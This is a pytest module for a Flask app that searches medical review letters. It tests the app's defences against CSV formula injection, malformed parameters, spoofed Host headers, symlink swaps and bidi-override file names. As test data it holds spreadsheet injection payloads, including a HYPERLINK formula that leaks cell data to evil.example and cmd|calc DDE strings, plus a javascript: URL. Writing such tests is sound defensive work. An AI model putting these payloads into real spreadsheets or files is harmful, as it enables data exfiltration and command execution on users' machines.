"""The web app against hostile input and a hostile file system (issue 19, a security review).

Through Flask's test client, over two indexes: the shared one of `conftest.py` (the samples and
the XSS letter), and one of this module made from copies of letters in a temporary folder, whose
files the tests rename, edit and swap for symbolic links:

- `tests/fixtures/hostile/formula_letter.txt` (L-d2fe2e30224e5f4a, the only letter with the
  word "quillionfold"): four items whose request and guideline start with `=`, `+`, `-` and `@`,
  as a spreadsheet formula would;
- the five seed letters, under the names `evil\\r\\nname.txt` (a CR and a LF in it),
  `évaluation\\u202etxt.exe.txt` (a right-to-left override), `swapped.txt`, `edited.txt` and
  `folder/inner.txt`.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
from types import SimpleNamespace
from urllib.parse import unquote

import pytest

from indexer.search import SearchService
from indexer.stores.embedded import EmbeddedStore
from webapp import create_app

from .conftest import ROOT, SAMPLES, SEEDS, index_samples, run_cli
from .test_webapp import CSP, HX, assert_security_headers, dom, get

FORMULA_LETTER = ROOT / "tests" / "fixtures" / "hostile" / "formula_letter.txt"
FORMULA_ID = "L-d2fe2e30224e5f4a"
CRLF_NAME, CRLF_ID = "evil\r\nname.txt", "L-96b58c07c53b0b00"  # seed 000
BIDI_NAME, BIDI_ID = "évaluation\u202etxt.exe.txt", "L-8bfe781363af6ef1"  # seed 001
SWAPPED_ID = "L-f79e6a4b89368566"  # seed 002, as swapped.txt
EDITED_ID = "L-bbc98e8f584ae533"  # seed 003, as edited.txt
NESTED_ID = "CM15-0022402"  # seed 004, as folder/inner.txt
CHANGED = "The original file of this letter has changed since it was indexed."
ITEM_ERROR = "{!r} is not an item id (expected LETTER:item-N)"
K_ERROR = "k must be a whole number from 1 to 50"
HOST_ERROR = (
    "The Host header is not a valid host name: each part between dots must be 1 to 63 "
    "letters, digits or hyphens."
)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, embedder):
    """An index of copies of letters in a temporary folder, and that folder."""
    root = tmp_path_factory.mktemp("hostile")
    letters = root / "letters"
    (letters / "folder").mkdir(parents=True)
    shutil.copy(FORMULA_LETTER, letters / "formula_letter.txt")
    for seed, name in zip(
        SEEDS,
        [CRLF_NAME, BIDI_NAME, "swapped.txt", "edited.txt", "folder/inner.txt"],
        strict=True,
    ):
        shutil.copy(seed, letters / name)
    store = EmbeddedStore(root / "index")
    index_samples(store, embedder, [letters])
    return SimpleNamespace(
        root=root, letters=letters, store=store, service=SearchService(store, lambda: embedder)
    )


@pytest.fixture(scope="module")
def hclient(hostile):
    """A client of the app over the hostile index."""
    return create_app({"SERVICE": hostile.service, "TESTING": True}).test_client()


@pytest.fixture(scope="module")
def client(app):
    """A client of the app over the shared index (samples and the XSS letter)."""
    return app.test_client()


def error_line(response) -> str:
    """The one line an error page (or partial) says."""
    return dom(response.text).find("section", cls="error").find("p").text


# -- 1. CSV formula injection ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\n=1+1"),  # and a carriage return becomes a line feed (see below)
        ("a\rb", "a\nb"),
        ("a\r\nb\r\n", "a\nb\n"),
        ("Valium 10 mg #50", "Valium 10 mg #50"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("/letters/CM15-0022402#item-1", "/letters/CM15-0022402#item-1"),
    ],
)
def test_a_cell_that_would_start_a_formula_gets_a_quote(value, cell):
    from webapp.blueprints.export import csv_cell

    assert csv_cell(value) == cell


def test_write_csv_neutralises_every_formula_start_in_every_column():
    from webapp.blueprints.export import write_csv

    starts = ["=", "+", "-", "@", "\t", "\r"]
    rows = [
        {
            "case_number": f"{c}case",
            "decision_date": f"{c}date",
            "request": f"{c}HYPERLINK(1)",
            "treatment": f"{c}t",
            "treatment_class": f"{c}c",
            "decision": f"{c}upheld",
            "guideline": f"{c}g",
            "letter_url": f"{c}url",
        }
        for c in starts
    ]
    read = list(csv.DictReader(io.StringIO(write_csv(rows), newline="")))
    # Every row reads back whole: a cell with a carriage return is quoted, as a line feed.
    assert read == [
        {name: f"'{value}".replace("\r", "\n") for name, value in row.items()} for row in rows
    ]


FORMULA_CSV = (
    "case_number,decision_date,request,treatment,treatment_class,decision,guideline,letter_url\n"
    ',,"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Tramadol"") 50mg #60",tramadol,opioid,'
    'upheld,"\'=1+1 Decision based on MTUS Chronic Pain Medical Treatment Guidelines, Opioids.",'
    f"/letters/{FORMULA_ID}#item-1\n"
    ",,'+cmd|' /C calc'!A0 Naproxen 550mg #90,naproxen,nsaid,overturned,"
    '"\'+Decision based on MTUS Chronic Pain Medical Treatment Guidelines, NSAIDs.",'
    f"/letters/{FORMULA_ID}#item-2\n"
    ",,'-2+3+cmd|' /C calc'!A0 Omeprazole 20mg #60,omeprazole,proton pump inhibitor,upheld,"
    '"\'-Decision based on MTUS Chronic Pain Medical Treatment Guidelines, NSAIDs.",'
    f"/letters/{FORMULA_ID}#item-3\n"
    ",,'@SUM(1+1)*cmd|' /C calc'!A0 Cyclobenzaprine 7.5mg #30,cyclobenzaprine,muscle relaxant,"
    "upheld,\"'@Decision based on MTUS Chronic Pain Medical Treatment Guidelines, "
    'Muscle relaxants."'
    f",/letters/{FORMULA_ID}#item-4\n"
)
FORMULA_ROWS = [
    (
        '=HYPERLINK("http://evil.example/?leak="&A1,"Tramadol") 50mg #60',
        "=1+1 Decision based on MTUS Chronic Pain Medical Treatment Guidelines, Opioids.",
    ),
    (
        "+cmd|' /C calc'!A0 Naproxen 550mg #90",
        "+Decision based on MTUS Chronic Pain Medical Treatment Guidelines, NSAIDs.",
    ),
    (
        "-2+3+cmd|' /C calc'!A0 Omeprazole 20mg #60",
        "-Decision based on MTUS Chronic Pain Medical Treatment Guidelines, NSAIDs.",
    ),
    (
        "@SUM(1+1)*cmd|' /C calc'!A0 Cyclobenzaprine 7.5mg #30",
        "@Decision based on MTUS Chronic Pain Medical Treatment Guidelines, Muscle relaxants.",
    ),
]


def test_the_csv_export_neutralises_formulas_and_the_json_export_keeps_the_values(hclient):
    url = "/export.csv?q=quillionfold&mode=keyword"
    # The rows in letter order (the export lists them by rank, which is not the point here).
    header, *rows = get(hclient, url).text.splitlines(keepends=True)
    assert [header, *sorted(rows, key=lambda row: row[-2])] == FORMULA_CSV.splitlines(True)
    items = get(hclient, url.replace(".csv", ".json")).get_json()["items"]
    items.sort(key=lambda item: item["letter_url"])
    assert [(i["request"], i["guideline"]) for i in items] == FORMULA_ROWS
    assert [i["letter_url"] for i in items] == [
        f"/letters/{FORMULA_ID}#item-{n}" for n in range(1, 5)
    ]


# -- 2. 500s that are 400s ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "item",
    ["%C2%B2", "", "%D9%A3", "+1", "-1", "1x", " 1", "1:item-2", "9" * 5000],
    ids=[
        "superscript-2",
        "empty",
        "arabic-indic-3",
        "plus",
        "minus",
        "1x",
        "space",
        "twice",
        "long",
    ],
)
def test_a_bad_item_number_is_a_400_that_names_the_id(client, item):
    source = f"CM16-0232543:item-{unquote(item)}"
    page = get(client, f"/similar/CM16-0232543:item-{item}", 400)
    assert page.mimetype == "text/html"
    assert dom(page.text).find("h1").text == "Bad request"
    assert error_line(page) == ITEM_ERROR.format(source)
    assert error_line(get(client, f"/similar/CM16-0232543:item-{item}", 400, HX)) == (
        ITEM_ERROR.format(source)
    )
    api = get(client, f"/api/similar/CM16-0232543:item-{item}", 400).get_json()
    assert api == {
        "error": {"status": 400, "title": "Bad request", "message": ITEM_ERROR.format(source)}
    }


def test_an_item_number_beyond_the_letters_items_is_a_400(client):
    for n in (0, 11, 999999):
        page = get(client, f"/similar/CM16-0230651:item-{n}", 400)
        assert error_line(page) == f"letter CM16-0230651 has no item {n}"
        assert get(client, f"/api/similar/CM16-0230651:item-{n}", 400).get_json()["error"][
            "message"
        ] == (f"letter CM16-0230651 has no item {n}")


@pytest.mark.parametrize(
    "k",
    ["%C2%B2", "%D9%A3", "%EF%BC%93", "9" * 5000, "0" * 5000, "51", "-1", "1.0", ""],
    ids=[
        "superscript-2",
        "arabic-indic-3",
        "fullwidth-3",
        "nines",
        "zeros",
        "51",
        "-1",
        "1.0",
        "empty",
    ],
)
def test_api_similar_k_must_be_a_whole_number_in_ascii_digits(client, k):
    response = get(client, f"/api/similar/CM16-0232543?k={k}", 400)
    assert response.get_json() == {
        "error": {"status": 400, "title": "Bad request", "message": K_ERROR}
    }


def test_api_similar_k_with_ascii_digits_still_works(client):
    for k, count in (("1", 1), ("05", 5), ("0" * 5000 + "7", 7), ("50", 50)):
        hits = get(client, f"/api/similar/CM16-0232543?k={k}").get_json()["hits"]
        assert len(hits) == count


@pytest.mark.parametrize("host", ["a" * 64 + ".example.com", "a..example.com"])
@pytest.mark.parametrize("testing", [True, False], ids=["testing", "production"])
def test_a_host_header_that_is_no_host_name_is_a_400_page_with_security_headers(
    web_service, host, testing
):
    client = create_app({"SERVICE": web_service, "TESTING": testing}).test_client()
    for url in ("/", "/letters/CM16-0230651", "/nope"):
        for headers in ({}, HX):
            response = get(client, url, 400, {"Host": host, **headers})
            assert response.mimetype == "text/html"
            assert response.headers["Content-Security-Policy"] == CSP
            assert_security_headers(response)
            assert dom(response.text).find("h1").text == "Bad Request"
            assert error_line(response) == HOST_ERROR
            assert ("<html" in response.text) == (not headers)
    api = get(client, "/api/search?q=mri", 400, {"Host": host})
    assert api.get_json() == {
        "error": {"status": 400, "title": "Bad Request", "message": HOST_ERROR}
    }
    assert_security_headers(api)


def test_original_of_a_file_named_with_cr_and_lf(hclient):
    response = get(hclient, f"/letters/{CRLF_ID}/original")
    assert response.data == SEEDS[0].read_bytes()
    assert response.mimetype == "text/plain"
    assert response.headers["Content-Disposition"] == "attachment; filename=evilname.txt"
    assert_security_headers(response)
    page = dom(get(hclient, f"/letters/{CRLF_ID}").text)
    assert page.find("a", cls="download").text == "Download the original (evilname.txt)"


# -- 3. the original file, only while it is the file the index read -----------------------------


def test_an_original_swapped_for_a_symlink_is_refused(hclient, hostile):
    path = hostile.letters / "swapped.txt"
    url = f"/letters/{SWAPPED_ID}/original"
    assert get(hclient, url).data == SEEDS[2].read_bytes()
    secret = hostile.root / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash\n")
    copy = hostile.root / "copy-of-swapped.txt"
    shutil.copy(path, copy)  # the same bytes: the hash alone would let it through
    original = path.read_bytes()
    try:
        for target in (secret, copy):
            path.unlink()
            path.symlink_to(target)
            response = get(hclient, url, 404)
            assert response.mimetype == "text/html"
            assert error_line(response) == CHANGED
            assert b"root:x" not in response.data
            assert_security_headers(response)
        # A symbolic link that leads nowhere, and no file at all.
        path.unlink()
        path.symlink_to(hostile.root / "nothing-here.txt")
        assert error_line(get(hclient, url, 404)) == CHANGED
        path.unlink()
        assert error_line(get(hclient, url, 404)) == (
            "The original file of this letter is no longer available."
        )
    finally:
        if path.is_symlink() or path.exists():
            path.unlink()
        path.write_bytes(original)
    # The file back as it was indexed: served again.
    assert get(hclient, url).data == original


def test_an_original_edited_since_indexing_is_refused(hclient, hostile):
    path = hostile.letters / "edited.txt"
    url = f"/letters/{EDITED_ID}/original"
    original = path.read_bytes()
    assert get(hclient, url).data == original
    try:
        path.write_bytes(original + b"\nA line added after indexing.\n")
        assert error_line(get(hclient, url, 404)) == CHANGED
        path.write_bytes(original[:-1] + bytes([original[-1] ^ 1]))  # same size, one bit off
        assert error_line(get(hclient, url, 404)) == CHANGED
        path.unlink()
        os.mkfifo(path)  # not a regular file (and reading it would block)
        assert error_line(get(hclient, url, 404)) == CHANGED
    finally:
        path.unlink()
        path.write_bytes(original)
    assert get(hclient, url).data == original


def test_an_original_reached_through_a_symlinked_folder_is_refused(hclient, hostile):
    folder = hostile.letters / "folder"
    moved = hostile.root / "moved-folder"
    url = f"/letters/{NESTED_ID}/original"
    assert get(hclient, url).data == SEEDS[4].read_bytes()
    folder.rename(moved)
    try:
        folder.symlink_to(moved)  # the same file, the same bytes, but somewhere else
        assert error_line(get(hclient, url, 404)) == CHANGED
    finally:
        folder.unlink()
        moved.rename(folder)
    assert get(hclient, url).data == SEEDS[4].read_bytes()


class _NoFileStamps:
    """The hostile index as a store of letters indexed before file stamps were recorded."""

    def __init__(self, store) -> None:
        self._store = store

    def __getattr__(self, name):
        return getattr(self._store, name)

    def letter(self, letter_id):
        stored = self._store.letter(letter_id)
        return stored and {**stored, "file_sha256": None}


def test_an_original_without_a_recorded_hash_is_not_served(hostile, embedder):
    service = SearchService(_NoFileStamps(hostile.store), lambda: embedder)
    client = create_app({"SERVICE": service, "TESTING": True}).test_client()
    response = get(client, f"/letters/{FORMULA_ID}/original", 404)
    assert error_line(response) == (
        "The original file of this letter cannot be checked: the index recorded no hash of it "
        "(index the letter again)."
    )


# -- 4. no server paths ------------------------------------------------------------------------


def test_the_api_letter_shows_the_file_name_not_the_server_path(client, hclient, hostile):
    response = get(client, "/api/letters/CM16-0230651")
    assert response.get_json()["record"]["source"] == "CM16-0230651.pdf"
    assert str(SAMPLES).encode() not in response.data
    for letter_id, name in (
        (CRLF_ID, CRLF_NAME),
        (BIDI_ID, BIDI_NAME),
        (NESTED_ID, "inner.txt"),
        (FORMULA_ID, "formula_letter.txt"),
    ):
        response = get(hclient, f"/api/letters/{letter_id}")
        assert response.get_json()["record"]["source"] == name
        assert str(hostile.root).encode() not in response.data
        page = get(hclient, f"/letters/{letter_id}")
        assert str(hostile.root) not in page.text


def test_the_cli_still_prints_the_full_path(hostile):
    path = hostile.letters / "formula_letter.txt"
    result = run_cli("parse", str(path), "--json")
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["source"] == str(path.resolve())


# -- 5. export links not made from the Host header ---------------------------------------------


def test_export_letter_urls_are_relative_whatever_the_host_header(client):
    headers = {"Host": "evil.example", "X-Forwarded-Host": "evil.example"}
    rows = get(client, "/export.json?q=klonopin&mode=keyword", headers=headers).get_json()
    assert [r["letter_url"] for r in rows["items"]] == [
        "/letters/L-8bfe781363af6ef1#item-1",
        "/letters/L-96b58c07c53b0b00#item-2",
    ]
    text = get(client, "/export.csv?q=klonopin&mode=keyword", headers=headers).text
    assert [r["letter_url"] for r in csv.DictReader(io.StringIO(text))] == [
        "/letters/L-8bfe781363af6ef1#item-1",
        "/letters/L-96b58c07c53b0b00#item-2",
    ]
    assert "evil.example" not in text


def test_export_letter_urls_use_the_configured_base_url(web_service, monkeypatch):
    expected = [
        "https://imr.example.org/letters/L-8bfe781363af6ef1#item-1",
        "https://imr.example.org/letters/L-96b58c07c53b0b00#item-2",
    ]
    monkeypatch.setenv("IMR_SEARCH_BASE_URL", "https://imr.example.org/")
    for config in ({}, {"BASE_URL": "https://imr.example.org"}):
        app = create_app({"SERVICE": web_service, "TESTING": True, **config})
        assert app.config["BASE_URL"] == "https://imr.example.org"
        client = app.test_client()
        headers = {"Host": "evil.example"}
        rows = get(client, "/export.json?q=klonopin&mode=keyword", headers=headers).get_json()
        assert [r["letter_url"] for r in rows["items"]] == expected
        text = get(client, "/export.csv?q=klonopin&mode=keyword", headers=headers).text
        assert [r["letter_url"] for r in csv.DictReader(io.StringIO(text))] == expected


@pytest.mark.parametrize(
    "base", ["imr.example.org", "javascript:alert(1)", "ftp://imr.example.org", "https://x/?a=1"]
)
def test_a_base_url_that_is_no_web_address_stops_the_app(web_service, base):
    with pytest.raises(ValueError) as raised:
        create_app({"SERVICE": web_service, "BASE_URL": base})
    assert str(raised.value) == (
        "IMR_SEARCH_BASE_URL must be an http or https address such as "
        f"https://imr.example.org, not {base!r}"
    )


# -- 6. download names without controls or bidi overrides ----------------------------------------


def test_original_download_name_drops_the_bidi_override(hclient):
    response = get(hclient, f"/letters/{BIDI_ID}/original")
    assert response.data == SEEDS[1].read_bytes()
    assert response.headers["Content-Disposition"] == (
        "attachment; filename=evaluationtxt.exe.txt; filename*=UTF-8''%C3%A9valuationtxt.exe.txt"
    )
    assert "\u202e" not in response.headers["Content-Disposition"]
    page = dom(get(hclient, f"/letters/{BIDI_ID}").text)
    assert page.find("a", cls="download").text == ("Download the original (évaluationtxt.exe.txt)")


@pytest.mark.parametrize(
    "char",
    [
        *"\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f",
        *(chr(c) for c in range(0x20)),
        *(chr(c) for c in range(0x7F, 0xA0)),
        "\u2028",
        "\u2029",
        "\u200b",
        "\ufeff",
    ],
    ids=lambda c: f"U+{ord(c):04X}",
)
def test_a_file_name_loses_control_and_bidi_characters(char):
    from webapp.originals import display_name

    assert display_name(f"re{char}port{char}.txt") == "report.txt"
